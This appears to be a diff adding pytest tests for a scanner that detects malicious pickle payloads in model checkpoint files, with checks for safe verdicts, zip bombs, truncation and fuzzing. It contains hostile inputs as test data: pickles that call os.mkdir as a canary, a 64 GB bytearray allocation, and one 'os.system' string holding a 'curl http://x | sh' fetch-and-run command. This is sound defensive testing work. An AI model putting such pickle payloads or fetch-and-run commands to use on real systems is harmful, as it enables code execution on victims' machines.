@@ -1,0 +1,166 @@
+"""`ckptool.scan`: what is in a file to be unpickled is found wherever it is, and nothing of it runs."""
+
+import gzip
+import pickle
+import re
+import struct
+
+import hostile
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import ckptool
+from ckptool.reports.scan import call_text, group_of
+from ckptool.tree import Global, List, Object
+
+
+@pytest.fixture
+def scanned(tmp_path, monkeypatch):
+    """Write bytes to a file, scan it, and make sure that nothing ran."""
+    monkeypatch.chdir(tmp_path)
+
+    def scanned(data, name="file.bin"):
+        (tmp_path / name).write_bytes(data)
+        found = ckptool.scan(tmp_path / name)
+        assert [path.name for path in tmp_path.iterdir()] == [name]
+        (tmp_path / name).unlink()
+        return found
+
+    return scanned
+
+
+@pytest.mark.parametrize("name", hostile.HOSTILE)
+def test_a_payload_is_found_wherever_it_is(scanned, name):
+    found = scanned(hostile.HOSTILE[name], name if name.endswith(".safetensors") else "file.bin")
+    assert found.verdict == "unsafe", found
+    calls = {one.name: one.calls for one in found.unsafe}
+    assert sum(calls.get(f"{module}.mkdir", 0) for module in ("os", "posix", "nt")) >= 1
+    assert all(one.group == "code execution" for one in found.unsafe)
+    assert not found.weights_only
+
+
+@pytest.mark.parametrize("name", hostile.HARMLESS)
+def test_tensors_and_plain_data_are_safe_in_every_container(scanned, name):
+    found = scanned(hostile.HARMLESS[name])
+    assert (found.verdict, found.problems, found.unsafe) == ("safe", [], [])
+
+
+def test_the_payloads_of_the_tests_do_run_where_somebody_unpickles_them(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    for name in ("pickle", "protocol 0", "obj", "the name in the memo", "hidden in a tuple that is thrown away"):
+        pickle.loads(hostile.HOSTILE[name])
+        (tmp_path / "canary").rmdir()
+    with pytest.raises(EOFError):
+        pickle.loads(hostile.HOSTILE["before an end that never comes"])
+    (tmp_path / "canary").rmdir()
+    pickle.loads(hostile.polyglot())
+    (tmp_path / "canary").rmdir()
+
+
+def test_a_finding_says_where_how_often_and_with_what(scanned):
+    found = scanned(hostile.torch_zip(hostile.TENSORS, **{"extra/hidden.dat": hostile.EVIL + hostile.EVIL}))
+    (finding,) = found.unsafe
+    assert finding.places == ["archive/extra/hidden.dat", "archive/extra/hidden.dat #2"]
+    assert finding.calls == 2
+    assert finding.examples == ["os.mkdir('canary')"] * 2
+    assert found.pickles == ["archive/data.pkl", *finding.places]
+
+
+@pytest.mark.parametrize(
+    ("data", "words"),
+    [
+        (b"", "the file is empty"),
+        (b"plain words\n", "a text: plain words"),
+        (hostile.TENSORS[:40], "cut short"),
+        (hostile.torch_zip()[:-30], "end of the archive is missing"),
+        (hostile.legacy()[:-4], "4 bytes of its storages are missing"),
+        (hostile.zipped({"data.pkl": hostile.TENSORS, "x.gz": gzip.compress(b"x")}), "a gzip file, which is not"),
+        (hostile.safetensors(b'{"a": 1}'), "lacks dtype"),
+        (hostile.torch_zip(hostile.TENSORS[:60]), "cut short"),
+        (b"\x80\x04\x82\x01.", "has no opcode 0x82"),
+    ],
+)
+def test_what_cannot_be_read_to_the_end_is_never_called_safe(scanned, data, words):
+    found = scanned(data)
+    assert found.verdict == "unknown"
+    assert re.search(words, " ".join(found.problems))
+
+
+def test_a_bomb_is_not_inflated(scanned):
+    members = {"data.pkl": hostile.TENSORS, "zeros": bytes(80 << 20)}
+    found = scanned(hostile.zipped(members, 8))
+    assert found.verdict == "unknown"
+    assert "not looked into" in found.problems[0]
+
+
+def test_archives_without_end_are_left(scanned):
+    data = hostile.EVIL
+    for _ in range(12):
+        data = hostile.zipped({"inner": data})
+    found = scanned(data)
+    assert found.verdict == "unknown"
+    assert "nested more than" in found.problems[0]
+
+
+def test_a_persistent_id_that_would_take_for_ever_to_spell_does_not(scanned):
+    doubled = b"\x80\x02)" + b"2\x86" * 60
+    assert scanned(doubled + b"(U\x07storage" + b"ctorch\nFloatStorage\n" + b"h\x00" + b"tQ.").verdict == "unknown"
+    laughs = b"\x80\x02" + b"(U\x07storagectorch\nFloatStorage\n)" + b"2\x86" * 60 + b"U\x03cpuK\x01tQ."
+    assert scanned(laughs).verdict == "safe"
+
+
+@pytest.mark.parametrize(
+    ("name", "calls", "group"),
+    [
+        ("torch._utils._rebuild_tensor_v2", 4, "tensors"),
+        ("collections.OrderedDict", 0, "plain data"),
+        ("argparse.Namespace", 1, "plain data"),
+        ("subprocess.Popen", 0, "code execution"),
+        ("builtins.eval", 1, "code execution"),
+        ("torch.hub.load", 1, "code execution"),
+        ("torch.hub.load", 0, "custom classes"),
+        ("models.yolo.Model", 1, "custom classes"),
+        ("__main__.Config", 1, "custom classes"),
+        ("torch._utils._rebuild_tensor_v2.__globals__", 0, "custom classes"),
+        ("argparse.Namespace2", 0, "code execution"),
+    ],
+)
+def test_names_are_grouped(name, calls, group):
+    assert group_of(name, calls) == group
+
+
+def test_calls_of_plain_names_that_take_memory_are_no_plain_data(scanned):
+    found = scanned(b"\x80\x02c__builtin__\nbytearray\n(\x8a\x05\x00\x00\x00\x00\x10tR.")
+    assert found.verdict == "unsafe"
+    assert found.unsafe[0].examples == ["builtins.bytearray(68719476736)"]
+
+
+def test_a_call_reads_like_python_and_is_cut():
+    made = Object("reduce", Global("os", "system"), ("curl http://x | sh\x1b[31m" + "a" * 500, List([1] * 9), (1,)))
+    text = call_text(made)
+    assert text.startswith("os.system('curl http://x | sh\\x1b[31maaa")
+    assert len(text) <= 160
+    assert call_text(Object("reduce", made, ((),))).startswith("os.system(")
+
+
+@given(st.binary(max_size=300))
+def test_no_bytes_make_it_fail(tmp_path_factory, data):
+    path = tmp_path_factory.mktemp("scan") / "x"
+    for head in (b"", b"\x80\x02", hostile.torch_zip()[:200], hostile.MAGIC, struct.pack("<Q", 3) + b"{"):
+        path.write_bytes(head + data)
+        assert ckptool.scan(path).verdict in ("safe", "unsafe", "unknown")
+
+
+@given(st.integers(0, 400), st.integers(0, 255))
+def test_a_changed_byte_hides_nothing(tmp_path_factory, place, value):
+    """Whatever happens to an archive around the payload, it is not called safe while the payload is whole."""
+    data = bytearray(hostile.torch_zip(hostile.EVIL))
+    at = data.find(hostile.EVIL)
+    place %= len(data)
+    if at <= place < at + len(hostile.EVIL):
+        return
+    data[place] = value
+    path = tmp_path_factory.mktemp("scan") / "x"
+    path.write_bytes(data)
+    assert ckptool.scan(path).verdict != "safe"
